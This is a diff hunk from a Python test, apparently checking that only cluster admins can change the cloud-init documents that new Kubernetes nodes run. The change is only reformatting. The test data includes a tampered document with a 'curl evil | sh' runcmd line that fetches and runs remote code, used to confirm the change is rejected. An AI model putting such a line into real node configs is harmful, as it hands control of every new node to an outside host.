@@ -481,7 +481,10 @@ def test_only_the_clusters_admins_may_change_the_documents_every_new_node_runs(a
     own = gov.KubeReader(as_operator)
     current = own.get(path)  # reading it is theirs
     bad = {**current, "data": {"vmss-gpu-0": document("gpu") + "runcmd: [[sh, -c, 'curl evil | sh']]\n"}}
-    with pytest.raises(gov.ServiceError, match=r"HTTP 403 .*forbidden: ValidatingAdmissionPolicy 'superkube-node-documents-admins-only'"):
+    with pytest.raises(
+        gov.ServiceError,
+        match=r"HTTP 403 .*forbidden: ValidatingAdmissionPolicy 'superkube-node-documents-admins-only'",
+    ):
         own.replace(path, bad)
     refused = subprocess.run([str(api.kubectl), "--kubeconfig", str(as_operator), "delete", "configmap", "-n",
                               SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP], capture_output=True, text=True, timeout=30)  # fmt: skip
